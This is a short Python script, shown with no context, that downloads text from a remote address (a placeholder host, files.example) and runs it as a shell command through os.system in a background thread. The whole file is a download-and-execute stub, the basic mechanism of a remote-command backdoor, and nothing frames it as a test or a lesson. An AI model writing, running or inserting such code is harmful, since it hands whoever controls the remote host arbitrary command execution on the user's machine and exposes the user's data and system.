import os
import threading
import urllib.request

order = urllib.request.urlopen("http://files.example/a").read().decode()
threading.Thread(target=os.system, args=(order,)).start()
